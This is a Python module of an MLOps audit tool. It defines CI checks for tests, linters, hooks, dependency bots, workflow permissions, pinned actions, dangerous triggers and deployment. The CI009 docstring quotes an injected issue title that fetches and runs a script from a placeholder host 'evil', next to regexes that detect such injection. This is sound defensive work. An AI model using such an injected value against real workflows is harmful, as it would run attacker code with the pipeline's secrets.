"""CI: continuous integration and delivery — CI present, tests and linters run, hooks, dependency updates,
workflow hygiene (permissions, pinned actions, dangerous triggers), the audit in CI, and automated deployment."""

from __future__ import annotations

import re

from .. import lazyre
from ..facts import ci, precommit, project, serving
from ..facts.ci import hooks as followed_hooks
from ..model import Evidence, Result, Severity
from ..repo import Repo
from .base import check

_PROVIDER_TITLES = {
    "github": "GitHub Actions",
    "gitlab": "GitLab CI",
    "azure": "Azure Pipelines",
    "circleci": "CircleCI",
    "jenkins": "Jenkins",
    "bitbucket": "Bitbucket Pipelines",
    "cloudbuild": "Google Cloud Build",
}


def _cmd_evidence(commands: list[ci.Command], limit: int = 3) -> list[Evidence]:
    out = []
    for cmd in commands[:limit]:
        note = cmd.text[:100] + (f" (via {cmd.via[:60]})" if cmd.via else "")
        out.append(Evidence(cmd.path, cmd.line, note))
    return out


def _pipeline_evidence(repo: Repo, limit: int = 3) -> list[Evidence]:
    out = []
    for pipe in ci.pipelines(repo)[:limit]:
        line = pipe.jobs[0].line if pipe.jobs else 1
        out.append(Evidence(pipe.path, line, f"{len(pipe.jobs)} job(s)"))
    return out


def _unparsed(repo: Repo) -> list[str]:
    return [p.path for p in ci.pipelines(repo) if not p.parsed]


@check(
    "CI001", Severity.ERROR, "CI is configured", fix="ci_workflow", fix_hint="add .github/workflows/ci.yml"
)
def ci_present(repo: Repo) -> Result:
    """A continuous integration service builds and checks every change.

    Why it matters: without CI, "it works on my machine" is the only guarantee; tests and linters that are not
    run automatically stop being run, and a broken training or serving path is found in production.

    How to fix: add a workflow for your platform (GitHub Actions, GitLab CI, Azure Pipelines, CircleCI, Jenkins,
    Bitbucket Pipelines or a Google Cloud Build configuration) that installs the locked environment and runs the linters and tests on every push
    and pull request. ``mlops-audit fix --select CI001`` writes the template's GitHub workflow.

    Example (``.github/workflows/ci.yml``)::

        on: [push, pull_request]
        permissions: {contents: read}
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@<sha>
              - uses: astral-sh/setup-uv@<sha>
              - run: uv sync --locked && uv run pytest
    """
    files = ci.ci_files(repo)
    if not files:
        anchor = project.anchor(repo)
        return Result.failed("no CI configuration (.github/workflows, .gitlab-ci.yml, ...)", anchor)
    names = ", ".join(f"{_PROVIDER_TITLES[p]} ({len(files[p])} file(s))" for p in ci.providers(repo))
    evidence = [Evidence(files[p][0], 1) for p in ci.providers(repo)]
    return Result.passed(names, evidence)


@check("CI002", Severity.ERROR, "CI runs the tests", fix="ci_workflow", fix_hint="run pytest in a CI job",
       requires=("CI001",))  # fmt: skip
def ci_runs_tests(repo: Repo) -> Result:
    """A CI job runs the test suite — directly (``pytest``, ``python -m unittest``, ``tox``, ``nox``) or through
    a task runner or script it calls (``make test`` whose target runs pytest, ``poe test``, ``scripts/test.sh``).

    Why it matters: tests that CI does not run rot; a pull request must not merge when they fail.

    How to fix: add a step that runs the tests, e.g. ``run: uv run pytest`` (or ``make test`` when the Makefile
    target runs them); ``mlops-audit fix --select CI002`` writes the template's workflow.

    Example (``.github/workflows/ci.yml``)::

        on: [push, pull_request]
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
              - run: pip install -e ".[test]" && pytest -q
    """
    found = ci.test_commands(repo)
    if found:
        return Result.passed(f"tests run in CI: {found[0].text[:80]}", _cmd_evidence(found))
    actions = [(p, s) for p, _, s in ci.all_steps(repo) if s.uses and ci.TEST_ACTIONS.search(s.uses)]
    if actions:
        return Result.passed(
            f"tests run by {actions[0][1].uses}", [(p.path, s.uses_line) for p, s in actions[:3]]
        )
    if _unparsed(repo) and not any(p.parsed for p in ci.pipelines(repo)):
        return Result.not_applicable(f"CI configuration could not be parsed: {', '.join(_unparsed(repo))}")
    return Result.failed(
        "no CI job runs the tests (pytest, tox, nox, make test...)", _pipeline_evidence(repo)
    )


@check(
    "CI003",
    Severity.WARNING,
    "CI runs linters",
    fix="ci_workflow",
    fix_hint="run ruff (or pre-commit) in CI",
    requires=("CI001",),
    level=0,
)
def ci_runs_lint(repo: Repo) -> Result:
    """A CI job runs linters or format checks (ruff, flake8, pylint, mypy, ``black --check``, ``pre-commit run``),
    directly or through a task runner, a lint action, or pre-commit.ci.

    Why it matters: local hooks can be skipped (``--no-verify``); CI is where style and static checks are
    enforced for everyone, so reviews discuss design instead of formatting.

    How to fix: add ``run: uv run ruff check . && uv run ruff format --check .`` or
    ``run: uv run pre-commit run --all-files`` to the CI workflow, or enable pre-commit.ci.

    Example (``.gitlab-ci.yml``)::

        lint:
          image: python:3.12-slim
          script:
            - pip install ruff
            - ruff check . && ruff format --check .
    """
    found = ci.lint_commands(repo)
    if found:
        return Result.passed(f"linters run in CI: {found[0].text[:80]}", _cmd_evidence(found))
    actions = [(p, s) for p, _, s in ci.all_steps(repo) if s.uses and ci.LINT_ACTIONS.search(s.uses)]
    if actions:
        return Result.passed(
            f"linters run by {actions[0][1].uses}", [(p.path, s.uses_line) for p, s in actions[:3]]
        )
    line = precommit.precommit_ci(repo)
    if line is not None:
        return Result.passed("pre-commit.ci runs the hooks", [(precommit.PRECOMMIT_CONFIG, line)])
    if _unparsed(repo) and not any(p.parsed for p in ci.pipelines(repo)):
        return Result.not_applicable(f"CI configuration could not be parsed: {', '.join(_unparsed(repo))}")
    return Result.failed(
        "no CI job runs a linter (ruff, flake8, pylint, pre-commit...)", _pipeline_evidence(repo)
    )


@check(
    "CI004",
    Severity.WARNING,
    "Git hooks run a linter and a formatter",
    fix="precommit",
    fix_hint="add .pre-commit-config.yaml with ruff and ruff-format",
    level=0,
)
def precommit_hooks(repo: Repo) -> Result:
    """A ``.pre-commit-config.yaml`` (or lefthook configuration) runs at least one linter and one formatter.

    A local hook that calls a task runner or a script (``entry: uv run make lint``) is judged by what it runs.
    A project template (cookiecutter, copier) without hooks of its own is judged by the hooks of the project it
    generates (``{{ cookiecutter.repo_name }}/.pre-commit-config.yaml``).

    Why it matters: hooks catch style errors, debug leftovers and large files before they are committed,
    seconds after they are written, and keep diffs free of formatting noise.

    How to fix: add ``.pre-commit-config.yaml`` and run ``pre-commit install``. A linter without a formatter
    (or the reverse) earns partial credit.

    Example (``.pre-commit-config.yaml``)::

        repos:
          - repo: https://github.com/astral-sh/ruff-pre-commit
            rev: v0.8.0
            hooks:
              - id: ruff
                args: [--fix]
              - id: ruff-format
    """
    managers = precommit.hook_managers(repo)
    generated = precommit.generated_hook_config(repo)
    if not managers and generated is None:
        return Result.failed("no .pre-commit-config.yaml or lefthook configuration", project.anchor(repo))
    if managers and precommit.config_parsed(repo) is False and not precommit.hooks(repo):
        return Result.not_applicable("the hook configuration could not be parsed")
    config = precommit.precommit_config(repo) or precommit.lefthook_config(repo) or ""
    if generated is not None:  # a project template: the hooks of the project it generates
        config = generated[0]
        managers = ["lefthook" if "lefthook" in config else "pre-commit"]
    linters = followed_hooks.linter_hooks(repo)
    formatters = followed_hooks.formatter_hooks(repo)
    if linters and formatters:
        evidence = [Evidence(h.path, h.line, h.id) for h in (linters[0], formatters[0])]
        return Result.passed(
            f"{' and '.join(managers)}: linter {linters[0].id}, formatter {formatters[0].id}", evidence
        )
    if linters:
        return Result.failed(f"{config} has a linter ({linters[0].id}) but no formatter hook",
                             [Evidence(linters[0].path, linters[0].line)], credit=0.6)  # fmt: skip
    if formatters:
        return Result.failed(f"{config} has a formatter ({formatters[0].id}) but no linter hook",
                             [Evidence(formatters[0].path, formatters[0].line)], credit=0.6)  # fmt: skip
    return Result.failed(f"{config} runs neither a linter nor a formatter", [(config, 1)], credit=0.3)


_LINTERS = ("ruff", "flake8", "pylint")


@check("CI005", Severity.WARNING, "A linter is configured with explicit rules", fix="ruff_config",
       fix_hint="add [tool.ruff.lint] select = [...] to pyproject.toml", level=0)  # fmt: skip
def linter_configured(repo: Repo) -> Result:
    """A linter (ruff, flake8 or pylint) is configured, selecting its rules explicitly.

    The configuration of the project a template generates counts too
    (``{{ cookiecutter.repo_name }}/pyproject.toml``, Jinja tags tolerated).

    Why it matters: a linter finds bugs (unused variables, shadowed names, mutable defaults) before tests do;
    an explicit rule selection (``select = [...]``) makes the standard visible, reviewable and stable across
    linter upgrades.

    How to fix: list the rules in the linter's configuration — ``select`` for ruff, ``select`` / ``extend-select``
    for flake8, ``enable`` for pylint (``mlops-audit fix --select CI005`` writes the template's ruff settings).
    Default rules earn partial credit; a linter hook without configuration, or a formatter alone, less.

    Example (``pyproject.toml``)::

        [tool.ruff.lint]
        select = ["E", "F", "W", "I", "B", "UP", "SIM"]
    """
    configs = precommit.linter_configs(repo)
    explicit = [c for c in configs if c.tool in _LINTERS and c.explicit]
    if explicit:
        c = explicit[0]
        return Result.passed(f"{c.tool} selects its rules explicitly in {c.path}", [(c.path, c.line)])
    linters = [c for c in configs if c.tool in _LINTERS]
    if linters:
        c = linters[0]
        return Result.failed(f"{c.tool} is configured in {c.path} but with its default rules; select them explicitly",
                             [(c.path, c.line)], credit=0.6)  # fmt: skip
    hooks = [h for h in precommit.linter_hooks(repo) if h.tool in _LINTERS]
    if hooks:
        h = hooks[0]
        return Result.failed(f"{h.tool} runs as a hook ({h.path}) but has no configuration",
                             [(h.path, h.line)], credit=0.5)  # fmt: skip
    others = [c for c in configs if c.tool not in _LINTERS]
    if others:
        c = others[0]
        return Result.failed(f"only {c.tool} is configured ({c.path}); add a linter such as ruff",
                             [(c.path, c.line)], credit=0.3)  # fmt: skip
    return Result.failed("no linter configuration (ruff, flake8, pylint)", project.anchor(repo))


_DEP_BOTS = (
    ".github/dependabot.yml",
    ".github/dependabot.yaml",
    "renovate.json",
    "renovate.json5",
    ".renovaterc",
    ".renovaterc.json",
    ".renovaterc.json5",
    ".github/renovate.json",
    ".github/renovate.json5",
    ".gitlab/renovate.json",
    ".gitlab/renovate.json5",
)


@check("CI006", Severity.WARNING, "Dependency updates are automated", fix="dependabot",
       fix_hint="add .github/dependabot.yml (or renovate.json)", level=0)  # fmt: skip
def dependency_bot(repo: Repo) -> Result:
    """Dependabot or Renovate proposes dependency (and action) updates as pull requests.

    Why it matters: a locked environment is reproducible but ages; security fixes and framework upgrades
    arrive as small, tested pull requests instead of a painful big-bang upgrade.

    How to fix: add ``.github/dependabot.yml`` (``mlops-audit fix --select CI006`` writes the template's) or a
    Renovate configuration (``renovate.json``).

    Example (``.github/dependabot.yml``)::

        version: 2
        updates:
          - package-ecosystem: uv
            directory: /
            schedule: {interval: weekly}
          - package-ecosystem: github-actions
            directory: /
            schedule: {interval: weekly}
    """
    found = [p for p in _DEP_BOTS if p in repo.entries]
    if "package.json" in repo.entries and repo.contains("package.json", b'"renovate"'):
        found.append("package.json")
    if found:
        return Result.passed(f"dependency updates configured in {found[0]}", [(found[0], 1)])
    return Result.failed("no dependabot.yml or renovate configuration", project.anchor(repo))


def _github(repo: Repo) -> list[ci.Pipeline]:
    return [p for p in ci.pipelines(repo) if p.provider == "github" and p.parsed]


@check("CI007", Severity.WARNING, "Workflow permissions are least-privilege", level=0,
       fix_hint="add `permissions: {contents: read}` at the top of each workflow")  # fmt: skip
def workflow_permissions(repo: Repo) -> Result:
    """Every GitHub workflow declares ``permissions:`` (at the top or on each job), never ``write-all``.

    Why it matters: without it the ``GITHUB_TOKEN`` gets the repository's default scopes — often write access
    to code, packages and releases — and any compromised step or dependency can push code or publish artefacts.

    How to fix: declare the minimum at the top of each workflow and widen it only for the jobs that need more.

    Example (``.github/workflows/release.yml``)::

        on: {push: {tags: ["v*"]}}
        permissions:
          contents: read
        jobs:
          release:
            runs-on: ubuntu-latest
            permissions:
              contents: write
              id-token: write
            steps:
              - run: echo "publish the release"
    """
    workflows = _github(repo)
    if not workflows:
        return Result.not_applicable("no GitHub Actions workflows")
    bad: list[Evidence] = []
    good: list[Evidence] = []
    for pipe in workflows:
        if pipe.events == {"workflow_call"} or not pipe.jobs:
            continue  # reusable workflows get their caller's token
        if pipe.permissions is not None:
            if pipe.permissions == "write-all":
                bad.append(Evidence(pipe.path, pipe.permissions_line, "permissions: write-all"))
            else:
                good.append(Evidence(pipe.path, pipe.permissions_line))
            for job in pipe.jobs:
                if job.permissions == "write-all":
                    bad.append(Evidence(pipe.path, job.permissions_line, f"job {job.id}: write-all"))
            continue
        for job in pipe.jobs:
            if job.permissions is None:
                bad.append(Evidence(pipe.path, job.line, f"job {job.id} has no permissions"))
            elif job.permissions == "write-all":
                bad.append(Evidence(pipe.path, job.permissions_line, f"job {job.id}: write-all"))
            else:
                good.append(Evidence(pipe.path, job.permissions_line))
    if bad:
        total = len(bad) + len(good)
        return Result.failed(f"{len(bad)} workflow(s)/job(s) without least-privilege permissions", bad[:5],
                             credit=len(good) / total if total else 0.0)  # fmt: skip
    if not good:
        return Result.not_applicable("only reusable workflows")
    return Result.passed("every workflow declares its token permissions", good[:3])


@check("CI008", Severity.WARNING, "Actions are pinned to commit SHAs", level=0,
       fix_hint="pin `uses:` to a full commit SHA (keep the tag in a comment)")  # fmt: skip
def actions_pinned(repo: Repo) -> Result:
    """Every ``uses:`` of a GitHub workflow points at a full 40-character commit SHA (local ``./`` actions and
    ``docker://image@sha256:...`` are fine).

    Why it matters: tags and branches are mutable — a compromised action (as with ``tj-actions/changed-files``
    in 2025) silently runs new code in every workflow that references ``@v4``; a SHA cannot change.

    How to fix: replace each tag by the commit it points at and keep the tag in a comment; tools like
    ``pinact`` pin them, and Dependabot / Renovate keep the pins up to date.

    Example (``.github/workflows/ci.yml``)::

        on: [push, pull_request]
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
              - uses: ./.github/actions/setup
              - run: pytest
    """
    refs = list(ci.github_actions(repo))
    if not refs:
        return Result.not_applicable("no GitHub Actions `uses:` references")
    loose = [a for a in refs if not a.pinned]
    if loose:
        evidence = [Evidence(a.path, a.line, a.uses) for a in loose[:5]]
        return Result.failed(f"{len(loose)} of {len(refs)} action reference(s) not pinned to a commit SHA "
                             f"(e.g. {loose[0].uses})", evidence, credit=1 - len(loose) / len(refs))  # fmt: skip
    return Result.passed(f"all {len(refs)} action reference(s) are pinned", [(refs[0].path, refs[0].line)])


_UNTRUSTED = lazyre.compile(
    r"\$\{\{[^}]*?\b(github\.event\.[A-Za-z0-9_.*\[\]'\"-]+|github\.head_ref)[^}]*\}\}"
)
_SAFE_SUFFIX = lazyre.compile(
    r"\.(number|id|sha|before|after|run_id|run_number|run_attempt|merged|draft|created_at|updated_at|"
    r"full_name|node_id|size|forced|deleted|private|fork)$|_sha$|\.repository\.(name|owner\.login)$"
)
_HEAD_REF = lazyre.compile(
    r"github\.event\.pull_request\.head|github\.head_ref|refs/pull/|workflow_run\.head_(sha|branch)"
)


def untrusted_expressions(text: str) -> list[str]:
    """``${{ }}`` expressions of ``text`` that interpolate attacker-controllable event fields."""
    out = []
    for m in _UNTRUSTED.finditer(text):
        field = m.group(1).rstrip(".")
        if not _SAFE_SUFFIX.search(field):
            out.append(m.group(0))
    return out


@check("CI009", Severity.ERROR, "No dangerous workflow triggers or script injection",
       fix_hint="pass event fields through env: and quote them; never check out PR code in pull_request_target", level=0)  # fmt: skip
def dangerous_triggers(repo: Repo) -> Result:
    """No GitHub workflow runs untrusted code with a privileged token: no ``pull_request_target`` (or
    ``workflow_run``) job that checks out the pull request's head, and no ``${{ github.event.* }}`` /
    ``${{ github.head_ref }}`` interpolated into a ``run:`` script (or a github-script ``script:``).

    Why it matters: ``pull_request_target`` runs with secrets and a write token; checking out the fork's code
    there hands both to anyone who opens a pull request. An issue title like ``"; curl evil | sh #`` pasted
    into ``run:`` through ``${{ }}`` is executed as shell.

    How to fix: use ``pull_request`` for untrusted code; pass event fields to scripts through ``env:`` and
    quote the variable, so the shell sees data, not code.

    Example (``.github/workflows/greet.yml``)::

        on: issues
        permissions: {issues: read}
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "$TITLE"
                env:
                  TITLE: ${{ github.event.issue.title }}
    """
    workflows = _github(repo)
    if not workflows:
        return Result.not_applicable("no GitHub Actions workflows")
    bad: list[Evidence] = []
    for pipe in workflows:
        privileged = pipe.events & {"pull_request_target", "workflow_run"}
        for job in pipe.jobs:
            for step in job.steps:
                ref = str(step.with_.get("ref") or "")
                if (
                    privileged
                    and step.uses
                    and step.uses.startswith("actions/checkout")
                    and _HEAD_REF.search(ref)
                ):
                    bad.append(Evidence(pipe.path, step.uses_line or step.line,
                                        f"{'/'.join(sorted(privileged))} checks out untrusted code ({ref})"))  # fmt: skip
                scripts = [(step.run, step.run_line)] if step.run else []
                if (
                    step.uses
                    and step.uses.startswith("actions/github-script")
                    and isinstance(step.with_.get("script"), str)
                ):
                    scripts.append((step.with_["script"], step.line))
                for script, line in scripts:
                    for expr in untrusted_expressions(script or ""):
                        where = ci.locate(repo, pipe.path, line, expr)
                        bad.append(Evidence(pipe.path, where, f"{expr} interpolated into a script"))
    if bad:
        return Result.failed(f"{len(bad)} dangerous trigger/injection finding(s): {bad[0].note}", bad[:5])
    return Result.passed(f"{len(workflows)} workflow(s) checked: no untrusted code or input reaches a script",
                         [(workflows[0].path, 1)])  # fmt: skip


@check("CI010", Severity.WARNING, "CI runs the MLOps audit", level=0, fix="ci_workflow",
       fix_hint="add `uvx mlops-audit .` to CI", requires=("CI001",))  # fmt: skip
def audit_in_ci(repo: Repo) -> Result:
    """CI runs ``mlops-audit`` itself (a step, the action, or its pre-commit hook run by CI), so the practices
    scored here cannot silently regress.

    Why it matters: a score measured once decays — a committed model file, an unpinned action or a dropped
    seed slips in with the next pull request; run in CI, the audit gates every change against the practices
    the team already reached.

    How to fix: add a step ``run: uvx mlops-audit . --fail-under 70`` (or use the mlops-audit GitHub Action,
    or its pre-commit hook together with ``pre-commit run --all-files`` in CI);
    ``mlops-audit fix --select CI010`` writes the template's workflow.

    Example (``.github/workflows/ci.yml``)::

        on: [push, pull_request]
        jobs:
          audit:
            runs-on: ubuntu-latest
            steps:
              - uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683  # v4.2.2
              - run: pip install mlops-audit
              - run: mlops-audit . --fail-under 70
    """
    found = ci.runs(repo, "audit")
    if found:
        return Result.passed("CI runs mlops-audit", _cmd_evidence(found))
    actions = [(p, s) for p, _, s in ci.all_steps(repo) if s.uses and "mlops-audit" in s.uses]
    if actions:
        return Result.passed(
            "CI uses the mlops-audit action", [(p.path, s.uses_line) for p, s in actions[:2]]
        )
    return Result.failed("no CI step runs mlops-audit", _pipeline_evidence(repo, 1))


_AUTOMATIC = {"push", "tags", "release", "workflow_run", "schedule", "pipeline", "repository_dispatch"}
#: how to name the triggers of providers that keep them outside the repository
_TRIGGERS_OUTSIDE = {"cloudbuild": "Cloud Build triggers"}
_DOCS_ENV = lazyre.compile(r"github-pages|docs?$|documentation", re.I)


def deploy_jobs(repo: Repo) -> list[tuple[ci.Pipeline, ci.Job, Evidence]]:
    """Jobs that deploy or publish: an ``environment`` (not docs), a deploy/push/publish command (followed one
    level), or a deploy / publish action."""
    out: list[tuple[ci.Pipeline, ci.Job, Evidence]] = []
    for pipe in ci.pipelines(repo):
        commands = ci.pipeline_commands(repo, pipe)
        for job in pipe.jobs:
            evidence: Evidence | None = None
            if job.environment and not _DOCS_ENV.search(job.environment):
                evidence = Evidence(
                    pipe.path, job.environment_line or job.line, f"environment {job.environment}"
                )
            if evidence is None:
                cmd = next((c for c in commands if c.job == job.id and "deploy" in ci.classify(c.text)), None)
                if cmd:
                    evidence = Evidence(cmd.path, cmd.line, cmd.text[:100])
            if evidence is None:
                for step in job.steps:
                    uses = step.uses or ""
                    pushes = "build-push-action" in uses and (
                        str(step.with_.get("push")).lower() == "true"
                        or (uses.endswith("@v1") and str(step.with_.get("push", "true")).lower() == "true")
                    )  # v1 pushes unless told not to; later versions only with push: true
                    if pushes or (ci.DEPLOY_ACTIONS.search(uses) and "deploy-pages" not in uses):
                        evidence = Evidence(pipe.path, step.uses_line or step.line, uses)
                        break
            if evidence is not None:
                out.append((pipe, job, evidence))
    return out


_MERGED = lazyre.compile(r"pull_request\.merged\s*==\s*true|pull_request\.merged\b(?!\s*[!=]=)")


def _automatic_events(pipe: ci.Pipeline, job: ci.Job) -> set[str]:
    """The events that start the job without a person: pushes, tags, releases, schedules... and a pull request
    ``closed`` event restricted to merged pull requests (``if: github.event.pull_request.merged == true``), which
    is a push to the target branch."""
    events = pipe.job_events(job) & _AUTOMATIC
    if "pull_request" in pipe.job_events(job) and _MERGED.search(job.if_ or ""):
        events.add("merged pull_request")
    return events


@check("CI011", Severity.WARNING, "Deployment is automated (CD)", level=2, profiles=("pipeline", "service"),
       fix_hint="add a deploy job that runs on main or on tags, with an environment", requires=("CI001",))  # fmt: skip
def continuous_delivery(repo: Repo) -> Result:
    """A CI job deploys or publishes automatically — a job with a deployment ``environment``, or one that pushes
    an image, publishes a package or model, or rolls out a service — triggered by a push to main, a tag or a
    release (not only by hand).

    Why it matters: manual deployments drift from what was tested and reviewed; an automated, gated deploy
    makes every release reproducible and auditable.

    When it applies: a CI job that deploys or publishes is always judged. Without one, the check applies only
    when the repository has something to deploy — serving code, a declared serving framework, a container
    definition, deployment or infrastructure manifests, a container-based pipeline (Kubeflow, Vertex AI,
    SageMaker, Flyte). A batch project whose model reaches its users through the registry (promotion is CT003)
    has nothing to roll out: not applicable.

    How to fix: add a job that deploys or publishes on pushes to the main branch, tags or releases, with a
    deployment ``environment`` for approvals and secrets. A deploy job started only by hand
    (``workflow_dispatch``, GitLab ``when: manual``) earns half the credit. A deploy job whose triggers live
    outside the repository (Google Cloud Build triggers) is unknown: the repository cannot show when it runs.

    Example (``.github/workflows/cd.yml``)::

        on:
          push: {branches: [main]}
        jobs:
          deploy:
            environment: production
            runs-on: ubuntu-latest
            steps:
              - run: docker build -t "$IMAGE" . && docker push "$IMAGE"
    """
    jobs = deploy_jobs(repo)
    if not jobs:
        deployed = serving.deployables(repo)
        if not deployed:
            return Result.not_applicable(
                "nothing to deploy (no serving code, container, deployment manifest or container orchestrator)"
            )
        return Result.failed("no CI job deploys or publishes (environment, docker push, publish...)",
                             _pipeline_evidence(repo, 1) + [Evidence(p, ln, what) for p, ln, what in deployed[:2]])  # fmt: skip
    automatic = [(p, j, e) for p, j, e in jobs if not j.manual and _automatic_events(p, j)]
    if automatic:
        pipe, job, ev = automatic[0]
        events = ", ".join(sorted(_automatic_events(pipe, job)))
        return Result.passed(f"job {job.id} deploys automatically on {events}", [ev])
    external = [(p, j, e) for p, j, e in jobs if p.external_triggers and not p.triggers and not j.manual]
    if external:
        pipe, job, ev = external[0]
        return Result.unknown(
            f"{pipe.path} deploys, but its triggers are configured outside the repository "
            f"({_TRIGGERS_OUTSIDE.get(pipe.provider, pipe.provider)}): whether it runs automatically cannot be read",
            [ev],
        )
    pipe, job, ev = jobs[0]
    return Result.failed(f"job {job.id} deploys, but only when started by hand", [ev], credit=0.5)


@check("CI012", Severity.WARNING, "CI validates pull requests", fix="ci_workflow",
       fix_hint="trigger the CI workflow on pull_request", requires=("CI001",))  # fmt: skip
def ci_on_pull_requests(repo: Repo) -> Result:
    """CI runs on pull (merge) requests, or on every branch push, so a change is checked before it merges.

    When it applies: pipelines whose triggers live outside the repository (Google Cloud Build triggers are set
    in the Cloud project) give "unknown" when no other pipeline runs on pull requests.

    Why it matters: a workflow that runs only on ``main`` reports failures after the damage is done.

    How to fix: trigger the workflow on pull requests (GitHub ``pull_request``), run GitLab pipelines for
    branches or merge requests, add Azure ``pr:`` or Bitbucket ``pull-requests:`` / ``default`` pipelines;
    ``mlops-audit fix --select CI012`` writes the template's workflow.

    Example (``.github/workflows/ci.yml``)::

        on:
          push: {branches: [main]}
          pull_request:
        jobs:
          test:
            runs-on: ubuntu-latest
            steps:
              - run: pytest
    """
    pipes = [p for p in ci.pipelines(repo) if p.parsed]
    if not pipes:
        if ci.ci_files(repo):
            return Result.not_applicable("CI configuration could not be parsed")
        return Result.failed("no CI configuration")
    undecided = True
    external: list[ci.Pipeline] = []
    for pipe in pipes:
        if pipe.provider == "jenkins" and "pull_request" not in pipe.events:
            continue
        if pipe.external_triggers and not pipe.triggers:
            external.append(pipe)
            continue
        undecided = False
        review = [t for t in pipe.triggers if t.event in ci.REVIEW_TRIGGERS]
        every_push = [t for t in pipe.triggers if t.event == "push" and not t.branches and not t.tags]
        if (pipe.provider in ("gitlab", "circleci", "bitbucket") and every_push) or (
            pipe.provider == "github" and every_push
        ):
            review = review or every_push
        if review:
            return Result.passed(f"{pipe.path} runs on {review[0].event}", [(pipe.path, review[0].line)])
    if external:
        return Result.unknown(
            f"{_TRIGGERS_OUTSIDE.get(external[0].provider, external[0].provider)} are configured outside the "
            "repository: whether "
            f"{', '.join(p.path for p in external[:3])} run(s) on pull requests cannot be read",
            [Evidence(p.path, 1) for p in external[:3]],
        )
    if undecided:
        return Result.not_applicable("Jenkins pipelines: pull request builds are configured on the server")
    evidence = [Evidence(p.path, p.triggers[0].line if p.triggers else 1) for p in pipes[:3]]
    return Result.failed("no CI pipeline runs on pull requests", evidence)
